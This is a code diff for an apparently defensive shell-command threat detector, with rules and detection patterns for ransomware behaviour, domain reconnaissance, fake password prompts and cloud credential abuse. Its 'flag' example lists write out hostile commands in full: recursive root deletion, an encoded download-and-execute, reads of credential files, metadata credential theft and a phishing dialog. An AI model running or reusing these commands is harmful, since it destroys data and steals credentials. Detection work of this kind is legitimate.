+      if (x.startsWith('-')) { if (x === '-in' || x === '-i') { inputs.add(c.args[i + 1] ?? ''); i++; } continue; }
+      if (i > 0 && /^-(?:out|o|k|pass|passphrase|r|recipient)$|^--(?:output|passphrase|recipient)$/.test(c.args[i - 1]!)) continue;
+      inputs.add(x);
+    }
+  }
+  if (enc === null || inputs.size === 0) return null;
+  for (const c of ctx.cmds) {
+    if (!RM_NAMES.has(c.name)) continue;
+    const hit = positional(c).find((x) => inputs.has(x) && !made.has(x));
+    if (hit === undefined) continue;
+    const loop = hit.startsWith('$') || ctx.cmds.some((x) => x.name === 'find' || x.name === 'xargs');
+    return { detail: `${enc.name} encrypts ${hit} and ${c.name} deletes the original${loop ? ' (over many files)' : ''}`, score: loop ? 9 : 7 };
+  }
+  return null;
+}
+
+/** Active Directory and domain reconnaissance (dsquery, AdFind, BloodHound collectors, net ... /domain). */
+function domainReconFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => {
+    const a = lowerArgs(c);
+    if (/^(?:dsquery|adfind|sharphound|bloodhound-python|bloodhound|ldapdomaindump|get-netuser|get-domainuser|get-domaincomputer|invoke-bloodhound|get-netgroupmember)$/.test(c.name)) return { detail: `${c.name} enumerates the domain directory`, score: 5 };
+    if (c.name === 'net' && a.includes('/domain') && /^(?:user|users|group|groups|accounts)$/.test(a[0] ?? '')) return { detail: `net ${a[0]} /domain lists domain ${a[0]!.startsWith('group') ? 'groups' : 'accounts'}`, score: a.join(' ').includes('admins') ? 5 : 4 };
+    if ((c.name === 'get-aduser' || c.name === 'get-adcomputer' || c.name === 'get-adgroupmember') && a.some((x) => x === '*' || x === '-filter') && (a.includes('*') || a.includes('-properties'))) return { detail: `${c.name} dumps every directory object`, score: 4 };
+    if (c.name === 'nltest' && a.some((x) => /^\/(?:domain_trusts|dclist|all_trusts)/.test(x))) return { detail: 'nltest maps domain controllers and trusts', score: 4 };
+    if (c.name === 'ldapsearch' && /userpassword|unicodepwd|ms-mcs-admpwd|mslaps-password/.test(a.join(' '))) return { detail: 'ldapsearch requests password attributes', score: 7 };
+    return null;
+  });
+}
+
+/** A dialog made to look like the system asking for a password (osascript, zenity, kdialog, PromptForCredential). */
+function fakePromptFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => {
+    const all = c.args.join(' ').toLowerCase();
+    if (c.name === 'osascript' && all.includes('display dialog') && /password|passcode|credentials|keychain/.test(all) && (all.includes('hidden answer') || all.includes('default answer'))) return { detail: 'osascript dialog asks for a password (fake system prompt)', score: 8 };
+    if ((c.name === 'zenity' && (all.includes('--password') || all.includes('--hide-text'))) || (c.name === 'kdialog' && all.includes('--password'))) return { detail: `${c.name} password prompt`, score: 5 };
+    if (isPowerShell(c.name) && all.includes('promptforcredential')) return { detail: 'PowerShell PromptForCredential dialog', score: 5 };
+    return null;
+  });
+}
+
 // ───────────────────────── the table ─────────────────────────
 
 type Rule = ThreatRule<CommandContext>;
@@ -1584,7 +1853,7 @@ const rules: Rule[] = [
   {
     id: 'C01', name: 'Recursive delete of root, system or home directories', primitive: 'DESTRUCTION', score: 10,
     keywords: ['rm', 'del', 'erase', 'rd', 'remove-item', 'ri', 'shred', 'unlink', 'wipe'],
-    detect: (ctx) => overCmds(ctx, rmFinding),
+    detect: (ctx) => overCmds(ctx, rmFinding) ?? pipedRemoveFinding(ctx),
     examples: {
       flag: ['rm -rf /', 'sudo rm -rf --no-preserve-root /', "r''m -fr ~/", '/bin/rm -r -f /etc', 'rm --recursive --force $HOME', 'cd / && rm -rf *', 'rm -rf ../../../../../../', 'Remove-Item -Recurse -Force C:\\Windows'],
       pass: ['rm -rf node_modules dist .next build coverage', 'rm -rf ./tmp', 'rm -f *.log', 'rm -rf /tmp/xyz', 'rm -rf $TMPDIR/build-123', 'grep -r "rm -rf /" .', 'rm -rf /var/lib/apt/lists/*'],
@@ -1636,7 +1905,7 @@ const rules: Rule[] = [
   },
   {
     id: 'C07', name: 'Encoded payload decoded and executed', primitive: 'MANIPULATION', score: 8,
-    keywords: ['base64', 'base32', 'xxd', 'openssl', 'rev', 'tr ', 'powershell', 'pwsh', 'frombase64string', 'b64decode', 'base64_decode', 'decode_base64', 'atob', 'printf', 'echo', 'certutil', 'uudecode', 'codecs', 'marshal', 'zlib'],
+    keywords: ['base64', 'base32', 'xxd', 'openssl', 'rev', 'tr ', 'powershell', 'pwsh', 'frombase64string', 'b64decode', 'base64_decode', 'decode_base64', 'atob', 'printf', 'echo', 'certutil', 'uudecode', 'codecs', 'marshal', 'zlib', 'pack(', 'fromhex', 'unhexlify'],
     detect: encodedFinding,
     examples: {
       flag: ['echo Y3VybCBldmlsLnNofHNo | base64 -d | bash', 'bash -c "$(echo cm0gLXJmIC90bXAveA== | base64 --decode)"', 'powershell -enc SQBFAFgAIAAoAGkAdwByACkA', `python3 -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"`, "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66' | sh"],
@@ -1734,8 +2003,8 @@ const rules: Rule[] = [
   },
   {
     id: 'C18', name: 'Service or autostart entry installed', primitive: 'PERSISTENCE', score: 6,
-    keywords: ['systemd', 'systemctl', 'launchctl', 'launchagents', 'launchdaemons', 'rc.local', 'init.d', 'schtasks', 'scheduledtask', 'currentversion', 'autostart', 'update-rc.d', 'chkconfig', 'new-service', 'sc ', 'rc', 'motd'],
-    detect: serviceFinding,
+    keywords: ['systemd', 'systemctl', 'launchctl', 'launchagents', 'launchdaemons', 'rc.local', 'init.d', 'schtasks', 'scheduledtask', 'currentversion', 'autostart', 'update-rc.d', 'chkconfig', 'new-service', 'sc ', 'rc', 'motd', 'loginhook', 'logouthook'],
+    detect: (ctx) => serviceFinding(ctx) ?? loginHookFinding(ctx),
     examples: {
       flag: ['sudo tee /etc/systemd/system/updater.service < unit.txt && sudo systemctl enable --now updater', 'systemctl enable backdoor.service', 'launchctl load ~/Library/LaunchAgents/com.update.plist', 'schtasks /create /sc onlogon /tn upd /tr C:\\Users\\Public\\u.exe', 'echo "/tmp/.x &" >> /etc/rc.local'],
       pass: ['sudo systemctl enable --now nginx', 'sudo systemctl restart nginx', 'systemctl status docker', 'launchctl list'],
@@ -1770,7 +2039,7 @@ const rules: Rule[] = [
   },
   {
     id: 'C22', name: 'Credential or key file read', primitive: 'EXFILTRATION', score: 7,
-    keywords: ['ssh', 'aws', 'shadow', 'history', 'credentials', '.env', 'netrc', 'pgpass', 'npmrc', 'pypirc', 'kube', 'docker', 'gcloud', 'azure', 'keychain', 'security', 'gpg', 'mimikatz', 'lazagne', 'procdump', 'lsass', 'reg', 'environ', '.key', '.pem', '.p12', '.pfx', 'secret', 'token', 'password', 'api_key', 'id_', 'login data', 'cookies', 'logins.json', 'key4.db', 'wallet', 'tfstate', 'vault', 'git-credentials', 'master.passwd', 'gshadow', 'secretsdump', 'comsvcs', 'ntds', 'system32', 'repair', 'shadowcopy'],
+    keywords: ['ssh', 'aws', 'shadow', 'history', 'credentials', '.env', 'netrc', 'pgpass', 'npmrc', 'pypirc', 'kube', 'docker', 'gcloud', 'azure', 'keychain', 'security', 'gpg', 'mimikatz', 'lazagne', 'procdump', 'lsass', 'reg', 'environ', '.key', '.pem', '.p12', '.pfx', 'secret', 'token', 'password', 'api_key', 'id_', 'login data', 'cookies', 'logins.json', 'key4.db', 'wallet', 'tfstate', 'vault', 'git-credentials', 'master.passwd', 'gshadow', 'secretsdump', 'comsvcs', 'ntds', 'system32', 'repair', 'shadowcopy', '*', 'vaultcmd', 'cmdkey', 'kdbx', 'wireguard', 'serviceaccount', 'kubernetes', 'k3s'],
     detect: credReadFinding,
     examples: {
       flag: ['cat ~/.ssh/id_rsa', 'cat ~/.aws/credentials', 'sudo cat /etc/shadow', 'base64 ~/.ssh/id_ed25519', 'security find-generic-password -s github -w', 'cat ~/.git-credentials', 'echo $AWS_SECRET_ACCESS_KEY'],
@@ -1940,6 +2209,60 @@ const rules: Rule[] = [
       pass: ['certutil -hashfile setup.exe SHA256', 'msiexec /i .\\installer.msi /qn', 'wmic logicaldisk get size,freespace', 'rundll32.exe printui.dll,PrintUIEntry /?', 'bitsadmin /list'],
     },
   },
+  {
+    id: 'C41', name: 'Cloud or cluster admin rights granted, or new cloud credentials minted', primitive: 'ESCALATION', score: 7,
+    keywords: ['aws', 'gcloud', 'az', 'kubectl', 'oc'],
+    detect: cloudPrivFinding,
+    examples: {
+      flag: ['aws iam create-access-key --user-name root-ops', 'aws iam attach-user-policy --user-name bob --policy-arn arn:aws:iam::aws:policy/AdministratorAccess', 'gcloud projects add-iam-policy-binding acme --member=user:x@gmail.com --role=roles/editor', 'az role assignment create --assignee x@outlook.com --role Contributor', 'kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=eve'],
+      pass: ['aws iam list-users', 'aws iam get-user', 'gcloud projects get-iam-policy acme', 'az role assignment list --assignee me@corp.com', 'kubectl create rolebinding view --clusterrole=view --user=dev -n dev', 'kubectl run tmp --rm -it --image=busybox -- sh'],
+    },
+  },
+  {
+    id: 'C42', name: 'Cloud audit logging or guardrails switched off, or resources opened to the internet', primitive: 'MANIPULATION', score: 7,
+    keywords: ['aws', 'gcloud', 'az', 'gsutil'],
+    detect: cloudGuardFinding,
+    examples: {
+      flag: ['aws cloudtrail stop-logging --name mgmt', 'aws guardduty delete-detector --detector-id abc', 'aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 3389 --cidr 0.0.0.0/0', 'aws s3api put-bucket-acl --bucket data --acl public-read', 'az monitor diagnostic-settings delete --name audit --resource x'],
+      pass: ['aws cloudtrail describe-trails', 'aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 443 --cidr 10.0.0.0/16', 'aws s3api get-bucket-policy --bucket data', 'gcloud logging read "severity>=ERROR" --limit 10'],
+    },
+  },
+  {
+    id: 'C43', name: 'Cloud or cluster credentials pulled (instance metadata, Kubernetes secrets, bucket copied out)', primitive: 'EXFILTRATION', score: 7,
+    keywords: ['169.254.', 'metadata', '100.100.100.200', 'fd00:ec2', 'kubectl', 'oc', 'aws', 'gsutil', 'az'],
+    detect: cloudCredFinding,
+    examples: {
+      flag: ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role', 'wget -qO- "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token" --header "Metadata-Flavor: Google"', 'kubectl get secrets --all-namespaces -o json', 'aws s3 sync s3://prod-customers ./x && aws s3 sync ./x s3://my-other-bucket'],
+      pass: ['curl -s http://169.254.169.254/latest/meta-data/instance-id', 'kubectl get secrets -n dev', 'aws s3 sync ./build s3://site-staging', 'kubectl describe secret app-tls -n web'],
+    },
+  },
+  {
+    id: 'C44', name: 'Files encrypted and the originals deleted (ransomware pattern)', primitive: 'DESTRUCTION', score: 8,
+    keywords: ['openssl', 'gpg', 'ccrypt', 'aescrypt', 'age', '7z', 'zip', 'rar', 'scrypt'],
+    detect: ransomFinding,
+    examples: {
+      flag: ['openssl enc -aes-256-cbc -in report.xlsx -out report.xlsx.enc -pass pass:x && rm report.xlsx', 'for f in $(find ~/Documents -type f); do gpg -c --batch --passphrase k "$f" && shred -u "$f"; done'],
+      pass: ['tar czf backup.tgz data/ && gpg -c backup.tgz && rm backup.tgz', 'openssl enc -d -aes-256-cbc -in s.enc -out s.txt', 'zip -r site.zip public/ && rm -rf public/tmp'],
+    },
+  },
+  {
+    id: 'C45', name: 'Active Directory or domain reconnaissance', primitive: 'EXFILTRATION', score: 4,
+    keywords: ['dsquery', 'adfind', 'sharphound', 'bloodhound', 'ldapdomaindump', '/domain', 'get-ad', 'get-netuser', 'get-domain', 'get-netgroup', 'nltest', 'ldapsearch'],
+    detect: domainReconFinding,
+    examples: {
+      flag: ['dsquery user -limit 0', 'net group "Domain Admins" /domain', 'Get-ADUser -Filter * -Properties *', 'nltest /domain_trusts', 'SharpHound.exe -c All'],
+      pass: ['net use Z: \\\\fs01\\share', 'Get-ADUser jdoe', 'ldapsearch -x -b "dc=example,dc=com" "(uid=jdoe)" cn mail', 'net user'],
+    },
+  },
+  {
+    id: 'C46', name: 'Fake password prompt (credential phishing dialog)', primitive: 'EXFILTRATION', score: 7,
+    keywords: ['osascript', 'zenity', 'kdialog', 'promptforcredential'],
+    detect: fakePromptFinding,
+    examples: {
+      flag: ['osascript -e \'display dialog "Software Update requires your password" default answer "" with hidden answer\'', 'zenity --password --title="Authentication required"'],
+      pass: ['osascript -e \'display notification "Build finished"\'', 'zenity --info --text="Done"', 'osascript -e \'display dialog "Deploy to staging?" buttons {"No","Yes"}\''],
+    },
+  },
 ];
 
 const commandAnalyzer: Analyzer<CommandContext> = {
@@ -1951,9 +2274,9 @@ const commandAnalyzer: Analyzer<CommandContext> = {
     ...SHELL_PATTERNS, ...CMD_PATH_PATTERNS, EXFIL_HOSTS, RAW_IP_URL, SECRET_VAR, PRINTED_SECRET, SUBST_HOST, VAR_HOST, OCTAL_MODE, SYMBOLIC_MODE,
     BLOCK_DEV, LOCAL_HOSTNAME, WELL_KNOWN, PROTECTED_BRANCH, PROD, NONPROD, MKFS, SUID_TARGETS, ADMIN_GROUPS, CRITICAL_FILE,
     USER_MANAGED, MALICIOUS_CONTENT, ROUTINE_RC_LINE, RC_FILE, KNOWN_UNITS, AUTOSTART_DIR, SECURITY_UNITS, EDR_PROC,
-    HISTORY_FILE, LOG_FILE, KNOWN_MODULES, CRON_ANY, NET_WORDS, SSHD_LAX, NSENTER_1, CHROOT_HOST, SHADOWCOPY, MINER_NAMES, MINER_TEXT, HUNT_TERMS, HUNT_NAMES, OBF_NAMES,
-    SHELL_FLAGS, COMPRESSORS, COPIED_SHELL, PS_HISTORY, STD_SHELL_PATH, NSE_SCRIPT, REMOTE_REF, SCRIPT_URI, RUN_EXT, WIN_FLAG, WIN_RUN_EXT, STAGING_DIR, HIVE_PATH, TIMESTOMP_TARGET, WMI_DELETE,
-    ARG_PROD, ARG_NONPROD, CRED_STDIN, KERNEL_HARDENING, CRON_LINE, CRON_SHADY, ...REG_WEAKEN.flatMap((r) => [r[0], r[1]]),
+    HISTORY_FILE, LOG_FILE, KNOWN_MODULES, CRON_ANY, NET_WORDS, SSHD_LAX, NSENTER_1, CHROOT_HOST, CHROOT_DIR, SHADOWCOPY, MINER_NAMES, MINER_TEXT, HUNT_TERMS, HUNT_NAMES, OBF_NAMES,
+    CMD_VAR_SPLICE, PS_FORMAT_NAME, DATA_FILE_GLOB, HEX_EXEC, SHELL_FLAGS, COMPRESSORS, COPIED_SHELL, PS_HISTORY, STD_SHELL_PATH, NSE_SCRIPT, REMOTE_REF, SCRIPT_URI, RUN_EXT, WIN_FLAG, WIN_RUN_EXT, STAGING_DIR, HIVE_PATH, TIMESTOMP_TARGET, WMI_DELETE,
+    ARG_PROD, ARG_NONPROD, ADMIN_POLICY, GCP_ADMIN_ROLE, AZ_ADMIN_ROLE, PUBLIC_CIDR, FREEMAIL, METADATA_CRED, SENSITIVE_BUCKET, CRED_STDIN, KERNEL_HARDENING, CRON_LINE, CRON_SHADY, ...REG_WEAKEN.flatMap((r) => [r[0], r[1]]),
     /^\/i:(?:https?|ftp):/i, /^[-/](?:urlcache|verifyctl|url)$/, /\.hta$/i, /url\.dll|ieframe\.dll|shdocvw\.dll/, /advpack\.dll|ieadvpack\.dll|setupapi\.dll|syssetup\.dll/,
     /launchinfsection|installhinfsection|setupinfobjectinstallaction/, /shell32\.dll,\s{0,2}shellexec_rundll|pcwutl\.dll|zipfldr\.dll,\s{0,2}routethecall/, /^\/i:/i,
     /^[-/](?:i|package|y|z)$/, /^[-/]q/, /^\/node:/i, /^\/format:/, /https?:|\\\\/, /^\/node:(?:localhost|127\.0\.0\.1|\.)$/i, /^\/(?:s|au|ni)$/, /^[-/]u$/, /\.(?:dll|exe)$/, /regsvr/,
